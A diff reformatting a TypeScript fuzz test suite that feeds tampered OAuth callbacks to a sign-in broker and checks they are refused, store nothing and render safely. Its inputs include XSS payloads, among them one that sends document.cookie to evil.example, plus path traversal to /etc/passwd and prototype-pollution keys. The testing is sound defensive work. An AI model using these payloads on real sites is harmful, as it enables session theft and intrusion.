@@ -56,7 +56,11 @@ async function freshBroker(): Promise<{ broker: Broker; account: Account; dir: s
     BROWSER: 'none',
   });
   const logger = createLogger({ level: 'debug', write: (line) => logLines.push(line) });
-  return { broker: createBroker(config, { logger, requestedScopes: ['read:store'] }), account: createAccount(config, { logger, requestedScopes: ['read:store'] }), dir };
+  return {
+    broker: createBroker(config, { logger, requestedScopes: ['read:store'] }),
+    account: createAccount(config, { logger, requestedScopes: ['read:store'] }),
+    dir,
+  };
 }
 
 /** What the AS redirects the browser to after auto-approval: the genuine authorization response. */
@@ -144,7 +148,18 @@ type Op = { kind: 'keep' } | { kind: 'drop' } | { kind: 'replace'; value: string
 const hostileText = fc.oneof(
   fc.string({ maxLength: 80 }),
   fc.string({ unit: 'grapheme', maxLength: 40 }),
-  fc.constantFrom('<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'https://evil.example', 'http://127.0.0.1:1', '\u0000', '%00', '../../etc/passwd', 'NaN', '__proto__', 'constructor'),
+  fc.constantFrom(
+    '<script>alert(1)</script>',
+    '"><img src=x onerror=alert(1)>',
+    'https://evil.example',
+    'http://127.0.0.1:1',
+    '\u0000',
+    '%00',
+    '../../etc/passwd',
+    'NaN',
+    '__proto__',
+    'constructor',
+  ),
 );
 const op = (allowReplace: fc.Arbitrary<string>): fc.Arbitrary<Op> =>
   fc.oneof(
@@ -153,7 +168,10 @@ const op = (allowReplace: fc.Arbitrary<string>): fc.Arbitrary<Op> =>
     fc.constant<Op>({ kind: 'twice' }),
     allowReplace.map<Op>((value) => ({ kind: 'replace', value })),
   );
-const extraKey = fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom('error', 'error_description', 'error_uri', '__proto__', 'constructor', 'prototype', 'response', 'code_verifier'));
+const extraKey = fc.oneof(
+  fc.string({ maxLength: 12 }),
+  fc.constantFrom('error', 'error_description', 'error_uri', '__proto__', 'constructor', 'prototype', 'response', 'code_verifier'),
+);
 
 function apply(params: URLSearchParams, name: string, operation: Op, genuine: string | null): void {
   switch (operation.kind) {
@@ -172,72 +190,91 @@ function apply(params: URLSearchParams, name: string, operation: Op, genuine: st
 }
 
 describe('a genuine authorization response, tampered with', () => {
-  it('is ignored without our state, else refused with SIGN_IN_FAILED; a wrong state or iss never redeems the code; nothing is stored; the page is safe', async () => {
-    const { broker, dir } = await freshBroker();
-    let cases = 0;
-    let ignoredCases = 0;
-    await fc.assert(
-      fc.asyncProperty(
-        fc.record({
-          state: op(hostileText),
-          iss: op(fc.oneof(hostileText, fc.constant('http://127.0.0.1:9'), fc.constant(sb.issuer + '/'))),
-          code: op(hostileText),
-          extras: fc.array(fc.tuple(extraKey, hostileText), { maxLength: 4 }),
-        }),
-        async ({ state, iss, code, extras }) => {
-          // Only the untouched answer may succeed; every case here changes something that matters.
-          // (An empty extra `error` is no error: oauth4webapi rightly accepts the answer then.)
-          fc.pre(state.kind !== 'keep' || iss.kind !== 'keep' || code.kind !== 'keep' || extras.some(([k, v]) => ['state', 'iss', 'code'].includes(k) || (k === 'error' && v !== '')));
-          cases++;
-          const before = (await sb.stats()).requests['POST /oauth/token'] ?? 0;
-          let carriesOurState = false;
-          const outcome = await tamperedSignIn(broker, (genuine, redirectUri) => {
-            const params = new URLSearchParams(genuine.search);
-            apply(params, 'state', state, genuine.searchParams.get('state'));
-            apply(params, 'iss', iss, genuine.searchParams.get('iss'));
-            apply(params, 'code', code, genuine.searchParams.get('code'));
-            for (const [key, value] of extras) params.append(key, value);
-            carriesOurState = params.getAll('state').includes(genuine.searchParams.get('state')!);
-            return `${redirectUri}?${params}`;
-          });
-          if (carriesOurState) {
-            // SIGN_IN_FAILED for a callback that fails its checks; AS_PROTOCOL when state and iss
-            // are right (so it came from the AS) but the answer lacks a usable code.
-            expect(outcome.ignored).toBe(false);
-            expect(refused(outcome.error), String(outcome.error)).toBe(true);
-          } else {
-            // Someone else's answer: ignored, the flow went on waiting until we cancelled it.
-            expect(outcome.ignored).toBe(true);
-            expect(isWhataloError(outcome.error, 'CANCELLED'), String(outcome.error)).toBe(true);
-            ignoredCases++;
-          }
-          expect(outcome.page.status).toBe(400);
-          expectSafePage(outcome.page.body);
-          const after = (await sb.stats()).requests['POST /oauth/token'] ?? 0;
-          if (state.kind !== 'keep' || iss.kind !== 'keep') expect(after).toBe(before); // the code was never sent
-          await expectNothingStored(dir);
-        },
-      ),
-      { numRuns: fuzzRuns(0.1, 60) },
-    );
-    figures.add('fuzzCases', cases);
-    figures.add('forgedCallbacksIgnored', ignoredCases);
-    // Not one token was issued.
-    expect(await liveGrants()).toEqual([]);
-  });
+  it(
+    'is ignored without our state, else refused with SIGN_IN_FAILED; a wrong state or iss never redeems the code; nothing is stored; the page is ' + 'safe',
+    async () => {
+      const { broker, dir } = await freshBroker();
+      let cases = 0;
+      let ignoredCases = 0;
+      await fc.assert(
+        fc.asyncProperty(
+          fc.record({
+            state: op(hostileText),
+            iss: op(fc.oneof(hostileText, fc.constant('http://127.0.0.1:9'), fc.constant(sb.issuer + '/'))),
+            code: op(hostileText),
+            extras: fc.array(fc.tuple(extraKey, hostileText), { maxLength: 4 }),
+          }),
+          async ({ state, iss, code, extras }) => {
+            // Only the untouched answer may succeed; every case here changes something that matters.
+            // (An empty extra `error` is no error: oauth4webapi rightly accepts the answer then.)
+            fc.pre(
+              state.kind !== 'keep' ||
+                iss.kind !== 'keep' ||
+                code.kind !== 'keep' ||
+                extras.some(([k, v]) => ['state', 'iss', 'code'].includes(k) || (k === 'error' && v !== '')),
+            );
+            cases++;
+            const before = (await sb.stats()).requests['POST /oauth/token'] ?? 0;
+            let carriesOurState = false;
+            const outcome = await tamperedSignIn(broker, (genuine, redirectUri) => {
+              const params = new URLSearchParams(genuine.search);
+              apply(params, 'state', state, genuine.searchParams.get('state'));
+              apply(params, 'iss', iss, genuine.searchParams.get('iss'));
+              apply(params, 'code', code, genuine.searchParams.get('code'));
+              for (const [key, value] of extras) params.append(key, value);
+              carriesOurState = params.getAll('state').includes(genuine.searchParams.get('state')!);
+              return `${redirectUri}?${params}`;
+            });
+            if (carriesOurState) {
+              // SIGN_IN_FAILED for a callback that fails its checks; AS_PROTOCOL when state and iss
+              // are right (so it came from the AS) but the answer lacks a usable code.
+              expect(outcome.ignored).toBe(false);
+              expect(refused(outcome.error), String(outcome.error)).toBe(true);
+            } else {
+              // Someone else's answer: ignored, the flow went on waiting until we cancelled it.
+              expect(outcome.ignored).toBe(true);
+              expect(isWhataloError(outcome.error, 'CANCELLED'), String(outcome.error)).toBe(true);
+              ignoredCases++;
+            }
+            expect(outcome.page.status).toBe(400);
+            expectSafePage(outcome.page.body);
+            const after = (await sb.stats()).requests['POST /oauth/token'] ?? 0;
+            if (state.kind !== 'keep' || iss.kind !== 'keep') expect(after).toBe(before); // the code was never sent
+            await expectNothingStored(dir);
+          },
+        ),
+        { numRuns: fuzzRuns(0.1, 60) },
+      );
+      figures.add('fuzzCases', cases);
+      figures.add('forgedCallbacksIgnored', ignoredCases);
+      // Not one token was issued.
+      expect(await liveGrants()).toEqual([]);
+    },
+  );
 
   it('an error_description carrying markup reaches the page escaped, and is refused', async () => {
     const { broker, dir } = await freshBroker();
     let cases = 0;
     const markup = fc.oneof(
-      fc.constantFrom('<script>alert(document.cookie)</script>', '<img src=x onerror="fetch(`//evil.example?`+document.cookie)">', "'><svg/onload=alert(1)>", '</p><h1>Signed in</h1><p>', '&lt;b&gt; &amp;'),
+      fc.constantFrom(
+        '<script>alert(document.cookie)</script>',
+        '<img src=x onerror="fetch(`//evil.example?`+document.cookie)">',
+        "'><svg/onload=alert(1)>",
+        '</p><h1>Signed in</h1><p>',
+        '&lt;b&gt; &amp;',
+      ),
       fc.array(fc.constantFrom('<', '>', '"', "'", '&', 'script', ' ', '/', '=', 'on', 'x'), { maxLength: 40 }).map((parts) => parts.join('')),
     );
     await fc.assert(
       fc.asyncProperty(fc.constantFrom('invalid_scope', 'server_error', 'invalid_request', 'x<y>'), markup, async (error, description) => {
         cases++;
         const outcome = await tamperedSignIn(broker, (genuine, redirectUri) => {
-          const params = new URLSearchParams({ error, error_description: description, state: genuine.searchParams.get('state')!, iss: genuine.searchParams.get('iss')! });
+          const params = new URLSearchParams({
+            error,
+            error_description: description,
+            state: genuine.searchParams.get('state')!,
+            iss: genuine.searchParams.get('iss')!,
+          });
           return `${redirectUri}?${params}`;
         });
         expect(isWhataloError(outcome.error, 'SIGN_IN_FAILED')).toBe(true);
